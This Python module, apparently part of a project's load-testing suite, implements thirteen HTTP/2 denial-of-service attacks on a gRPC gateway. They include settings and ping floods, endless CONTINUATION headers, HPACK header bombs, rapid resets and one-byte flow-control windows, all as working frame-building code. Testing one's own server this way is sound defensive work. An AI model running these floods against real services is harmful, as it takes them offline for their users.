"""Attacks on a gateway with HTTP/2 frames: floods, bombs, tiny windows.

Each attack sends for `target.seconds`, on one connection after the other, and reads little. An
attempt is a frame of the attack. Closed connections count as refused.
"""

import socket
import struct
import time
from collections.abc import Callable, Iterator
from itertools import count as numbers

from tests.load import http2
from tests.load.attackers import Count, Target

CHECK = "/grpc.health.v1.Health/Check"
WATCH = "/grpc.health.v1.Health/Watch"
AT_ONCE = 64  # frames in one write

Frames = Iterator[tuple[bytes, int]]  # bytes to send, and the number of attempts in them


def settings_flood(target: Target, count: Count) -> None:
    """Settings, whose acknowledgements are never read."""
    _flood(target, count, lambda: _again(http2.frame(http2.SETTINGS, 0, 0)), reads=False)


def ping_flood(target: Target, count: Count) -> None:
    """Pings, whose answers are never read."""
    _flood(target, count, lambda: _again(http2.frame(http2.PING, 0, 0, bytes(8))), reads=False)


def priority_flood(target: Target, count: Count) -> None:
    """Priorities of streams that do not exist."""
    _flood(target, count, lambda: _again(http2.frame(http2.PRIORITY, 0, 3, bytes(5))))


def unknown_flood(target: Target, count: Count) -> None:
    """Frames of an unknown type."""
    _flood(target, count, lambda: _again(http2.frame(0xEE, 0, 0, bytes(64))))


def window_flood(target: Target, count: Count) -> None:
    """Window updates of one byte."""
    _flood(target, count, lambda: _again(http2.window_update(0, 1)))


def continuation_flood(target: Target, count: Count) -> None:
    """A header block that never ends."""
    _flood(target, count, _endless_headers)


def header_bomb(target: Target, count: Count) -> None:
    """Header fields of 4 kB, each a single byte on the wire, in the headers of every call."""
    _flood(target, count, _bombs)


def table_flood(target: Target, count: Count) -> None:
    """Calls that shrink and grow the compressor's table."""
    _flood(target, count, _table_sizes)


def empty_data(target: Target, count: Count) -> None:
    """Data frames without data, on a call that never ends."""
    _flood(target, count, _empty_data)


def made_you_reset(target: Target, count: Count) -> None:
    """Calls that the gateway resets because their message is too large."""
    _flood(target, count, _too_large)


def malformed_calls(target: Target, count: Count) -> None:
    """Calls without a method, which HTTP/2 resets before the gateway sees them."""
    _flood(target, count, _malformed)


def unfinished_calls(target: Target, count: Count) -> None:
    """Calls without a message, as many as a connection allows."""
    _flood(target, count, _headers_only)


def tiny_windows(target: Target, count: Count) -> None:
    """Streams with a window of one byte for answers."""
    _flood(target, count, _one_byte_windows, reads=False)


HTTP2_ATTACKS: dict[str, Callable[[Target, Count], None]] = {
    "HTTP/2: settings": settings_flood,
    "HTTP/2: pings": ping_flood,
    "HTTP/2: priorities": priority_flood,
    "HTTP/2: unknown frames": unknown_flood,
    "HTTP/2: window updates": window_flood,
    "HTTP/2: endless headers": continuation_flood,
    "HTTP/2: header bombs": header_bomb,
    "HTTP/2: table sizes": table_flood,
    "HTTP/2: empty data": empty_data,
    "HTTP/2: made you reset": made_you_reset,
    "HTTP/2: malformed calls": malformed_calls,
    "HTTP/2: unfinished calls": unfinished_calls,
    "HTTP/2: tiny windows": tiny_windows,
}


def _flood(
    target: Target, count: Count, frames: Callable[[], Frames], *, reads: bool = True
) -> None:
    end = time.monotonic() + target.seconds
    while time.monotonic() < end:
        try:
            with http2.connect(target.port) as connection:
                for sent, attempts in frames():
                    _send(connection, sent, end)
                    count.attempts += attempts
                    if reads and _closed(connection):
                        raise ConnectionResetError
        except TimeoutError:
            return
        except OSError:
            count.refuse("closed")


def _send(connection: socket.socket, sent: bytes, end: float) -> None:
    """Sends all bytes. Raises TimeoutError after the time, OSError if the connection is closed."""
    left = end - time.monotonic()
    if left <= 0:
        raise TimeoutError
    connection.settimeout(left)
    connection.sendall(sent)


def _closed(connection: socket.socket) -> bool:
    """Reads available bytes; returns whether the other side has closed."""
    connection.setblocking(False)
    try:
        while connection.recv(65_536):
            pass
    except BlockingIOError:
        return False
    return True


def _again(frame: bytes) -> Frames:
    while True:
        yield AT_ONCE * frame, AT_ONCE


def _streams() -> Iterator[int]:
    return numbers(1, 2)


def _endless_headers() -> Frames:
    yield http2.frame(http2.HEADERS, 0, 1, http2.request(CHECK)), 1
    more = http2.header("x-more", "x" * 100) * 100
    while True:
        yield http2.frame(http2.CONTINUATION, 0, 1, more), 1


def _bombs() -> Frames:
    kept = b"\x40" + http2.text("x-bomb") + http2.text("x" * 3900)
    first = http2.request(CHECK) + kept
    for stream in _streams():
        fields = (first if stream == 1 else http2.request(CHECK)) + b"\xbe" * 8000
        yield http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream, fields), 1


def _table_sizes() -> Frames:
    sizes = b"\x20" + b"\x3f\xe1\x1f"  # none, and 4,096 bytes again
    for stream in _streams():
        fields = sizes + http2.request(CHECK)
        yield http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream, fields), 1


def _empty_data() -> Frames:
    yield http2.frame(http2.HEADERS, http2.END_HEADERS, 1, http2.request(WATCH)), 1
    yield from _again(http2.frame(http2.DATA, 0, 1))


def _too_large() -> Frames:
    block = http2.request(CHECK)
    for stream in _streams():
        opened = http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block)
        yield opened + http2.frame(http2.DATA, 0, stream, http2.TOO_LARGE), 1


def _malformed() -> Frames:
    for stream in _streams():
        yield http2.frame(http2.HEADERS, http2.END_HEADERS, stream, http2.header("x", "y")), 1


def _headers_only() -> Frames:
    block = http2.request(CHECK)
    for stream in _streams():
        yield http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block), 1


def _one_byte_windows() -> Frames:
    no_window = struct.pack(">HI", http2.INITIAL_WINDOW_SIZE, 0)
    yield http2.frame(http2.SETTINGS, 0, 0, no_window), 0
    block = http2.request(CHECK)
    for stream in _streams():
        opened = http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block)
        asked = http2.frame(http2.DATA, http2.END_STREAM, stream, bytes(5))
        yield opened + asked + http2.window_update(stream, 1), 1
